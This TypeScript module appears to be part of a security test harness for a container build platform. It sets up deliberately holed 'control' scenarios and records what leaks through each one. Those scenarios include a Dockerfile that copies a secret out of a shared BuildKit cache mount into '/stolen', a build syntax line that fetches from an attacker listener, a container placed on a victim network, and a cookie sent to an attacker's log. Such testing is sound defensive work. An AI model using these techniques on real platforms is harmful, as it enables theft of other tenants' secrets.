import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { until } from '../../../test-kit/until.ts'
import { file } from './cases.ts'
import { visitWith } from './cookie.ts'
import { tryDomain } from './domains.ts'
import { seenIn } from './markers.ts'
import type { Stage } from './stage.ts'
import { DONE } from './try.ts'

// What is made on the engine itself, past the platform, with a hole in it; each gives what was found through the hole.

const found = ({ ground, secrets }: Stage, text: string) => seenIn(text, { ...ground.markers, ...secrets })

/** The attackers' own program, in a container with a hole. */
export async function looked(stage: Stage, ...hole: string[]): Promise<string[]> {
  const { docker } = stage.ground
  const id = (await docker('run', '--detach', ...hole, stage.look)).trim()
  try {
    const logs = () => docker('logs', id)
    const text = await until('the program inside', 60_000, async () =>
      (await logs()).includes(DONE) ? logs() : undefined,
    )
    return found(stage, text)
  } finally {
    await docker('rm', '--force', '--volumes', id)
  }
}

export const ran = async (stage: Stage, ...argv: string[]) =>
  found(stage, await stage.ground.docker('run', '--rm', ...argv))

/** A build by hand, printed as the platform prints it. */
async function built(stage: Stage, name: string, lines: string[], ...options: string[]): Promise<string> {
  const context = join(stage.ground.folder, name)
  mkdirSync(context, { recursive: true })
  writeFileSync(join(context, 'Dockerfile'), `${lines.join('\n')}\n`)
  return stage.ground.docker('build', '--quiet', ...options, context).catch(String)
}

export async function withCache(stage: Stage): Promise<string[]> {
  const lines = ['FROM busybox:1', 'RUN --mount=type=cache,id=shared,target=/c cp /c/secret /stolen', 'CMD cat /stolen']
  const space = `BUILDKIT_CACHE_MOUNT_NS=${stage.victim.project}`
  const image = await built(stage, 'control-cache', lines, '--build-arg', space)
  return ran(stage, image.trim())
}

export async function withFrontend(stage: Stage): Promise<string[]> {
  stage.ground.listener.take()
  await built(stage, 'control-frontend', [`# syntax=${stage.ground.listener.address}/x`, 'FROM busybox:1'])
  return stage.ground.listener.take() === '' ? [] : ['asked the attacker’s own place']
}

export async function inNetwork(stage: Stage): Promise<string[]> {
  const { docker } = stage.ground
  const name = 'control-in-network'
  await docker(
    'service',
    'create',
    '--quiet',
    '--detach',
    '--name',
    name,
    '--network',
    stage.victim.network,
    stage.look,
  )
  try {
    const logs = () => docker('service', 'logs', '--raw', name)
    const text = await until('the program inside', 90_000, async () =>
      (await logs()).includes(DONE) ? logs() : undefined,
    )
    return found(stage, text)
  } finally {
    await docker('service', 'rm', name)
  }
}

export async function withCookie(stage: Stage): Promise<string[]> {
  const { host, logs } = await stage.publicAttacker()
  await visitWith(stage, host)
  const text = async () => found(stage, await logs())
  return until('the cookie in the log', 30_000, async () => ((await text()).length > 0 ? text() : undefined))
}

export async function withName(stage: Stage): Promise<string[]> {
  const attacker = await stage.attacker('control-name')
  const entries = [file('domain.json', JSON.stringify({ host: stage.site.host('control-name') }))]
  const { seen } = await tryDomain(stage, attacker, { name: 'control', want: 'harmless', door: 'domains', entries })
  return found(stage, seen)
}
